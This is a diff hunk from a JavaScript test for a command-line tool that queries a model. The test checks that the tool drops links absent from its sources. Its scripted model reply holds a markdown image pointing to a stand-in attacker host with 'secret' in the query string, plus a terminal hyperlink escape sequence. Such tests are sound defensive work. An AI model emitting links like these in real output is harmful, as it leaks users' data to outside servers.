@@ -148,7 +148,7 @@ describe('with a model', () => {
   it('prints no link that stands in no source, as text and as JSON', async () => {
     const text =
       'Ireland. ![x](https://evil.example/?d=secret) \u001b]8;;https://evil.example\u0007here\u001b]8;;\u0007'
-    const other = await startModelServer([{ when: 'You put the findings', reply: { text } }, ...rules])
+    const other = await startModelServer([{ when: 'Plan: The data has it.', reply: { text } }, ...rules])
     const model = { TUTTI_MODEL_URL: other.url, TUTTI_MODEL: 'compatible:scripted' }
     for (const form of [[], ['--json']]) {
       const { code, out } = await world.run(['ask', 'Where do customers live?', ...SHOP, ...form], { env: model })
